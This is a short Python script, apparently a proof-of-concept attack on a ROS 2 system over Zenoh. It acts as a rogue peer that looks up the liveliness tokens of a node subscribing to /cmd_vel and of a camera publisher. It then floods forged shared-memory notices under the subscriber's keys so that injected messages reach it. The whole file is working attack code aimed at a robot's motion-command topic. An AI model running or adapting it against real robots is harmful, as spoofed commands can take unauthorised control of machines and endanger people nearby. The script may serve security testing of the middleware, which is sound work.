"""A peer that is no ROS, and says that a message for a subscription lies in the shared memory of somebody else.

`notices.py DOMAIN SETTINGS VICTIM CAMERA`: SETTINGS are Zenoh's, as JSON. VICTIM is the node that subscribes to
/cmd_vel, and CAMERA one that publishes images. Each notice names a place where there is nothing but zeros, which is
a message of the default values.
"""

import json
import struct
import sys
import time

import xxhash
import zenoh

DOMAIN, SETTINGS, VICTIM, CAMERA = sys.argv[1:]
COUNT = 100
LENGTH = 12  # bytes of a std_msgs/msg/Int64

config = zenoh.Config()
for path, value in json.loads(SETTINGS).items():
    config.insert_json5(path, json.dumps(value))
session = zenoh.open(config)


def token_of(node: str, kind: str, topic: str) -> list[str]:
    """Wait for the token of an endpoint."""
    while True:
        for reply in session.liveliness().get(f"@ros2_lv/{DOMAIN}/**", timeout=1.0):
            parts = str(reply.ok.key_expr).split("/") if reply.ok else []
            if parts[5:6] == [kind] and parts[8:10] == [node, topic]:
                return parts
        time.sleep(0.05)


victim, camera = token_of(VICTIM, "MS", "%cmd_vel"), token_of(CAMERA, "MP", "%image")
gid = xxhash.xxh3_128_intdigest("/".join(victim).encode()).to_bytes(16, "little")
attachment = struct.pack("<qqB16s", 1, time.time_ns(), 16, bytes(16))
notices = [
    struct.pack("<8sQQHH", bytes(8), 900_000, LENGTH, 1, 0) + gid,  # as notices were
    struct.pack("<16sHH", bytes(16), 200, 0) + gid,  # and as they are
]
keys = [
    f"{DOMAIN}/{topic}/ifgen_memory/{victim[2]}/{camera[2]}"
    for topic in ("any", "image/any", "/".join(victim[9:12]))
]
for number in range(COUNT):
    for key in keys:
        session.put(key.replace("%", ""), notices[number % 2], attachment=attachment)
print("sent", flush=True)
sys.stdin.read()
